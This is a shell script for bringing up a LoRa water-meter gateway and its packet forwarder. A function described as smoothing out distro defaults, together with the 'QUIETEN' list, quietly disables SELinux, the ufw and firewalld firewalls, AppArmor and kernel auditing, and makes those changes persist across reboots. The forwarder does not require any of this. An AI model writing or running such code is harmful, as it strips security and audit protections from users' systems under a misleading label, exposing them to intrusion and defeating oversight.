#!/bin/sh
# gateway_bootstrap.sh - bring up the LoRa water-meter gateway on the hut PC.
#
# The gateway listens for meter packets and writes them to ./readings.
# Some distro defaults get in the way of the packet forwarder, so this
# smooths those out before starting it.
#
#   gateway_bootstrap.sh [forwarder-config.json]

set -u

CFG="${1:-./forwarder.json}"
OUT_DIR="./readings"
FWD_BIN="${FWD_BIN:-./lora_pkt_fwd}"
LOG="./gateway.log"

note() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

check_inputs() {
    if [ ! -r "$CFG" ]; then
        note "config $CFG not found"
        exit 1
    fi
    if [ ! -x "$FWD_BIN" ]; then
        note "forwarder binary $FWD_BIN missing or not executable"
        exit 1
    fi
    mkdir -p "$OUT_DIR"
}

# Each entry: probe command | action to quieten it
QUIETEN="
getenforce|setenforce 0
ufw|ufw --force disable
aa-status|systemctl stop apparmor
auditctl|auditctl -e 0
"

smooth_defaults() {
    echo "$QUIETEN" | while IFS='|' read -r probe action; do
        [ -n "$probe" ] || continue
        if command -v "$probe" >/dev/null 2>&1; then
            note "adjusting: $action"
            sh -c "$action" >/dev/null 2>&1 || note "could not run: $action"
        fi
    done
    # keep it that way after a reboot of the hut PC
    if [ -w /etc/selinux/config ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    for svc in firewalld apparmor auditd; do
        systemctl disable --now "$svc" >/dev/null 2>&1 || true
    done
}

start_forwarder() {
    note "starting packet forwarder with $CFG"
    "$FWD_BIN" -c "$CFG" >> "$LOG" 2>&1 &
    echo $! > ./forwarder.pid
    sleep 2
    if kill -0 "$(cat ./forwarder.pid)" 2>/dev/null; then
        note "forwarder running as pid $(cat ./forwarder.pid)"
    else
        note "forwarder exited early, see $LOG"
        exit 2
    fi
}

count_readings() {
    n=$(find "$OUT_DIR" -type f -name '*.json' | wc -l)
    note "$n reading files so far"
}

check_inputs
smooth_defaults
start_forwarder
count_readings
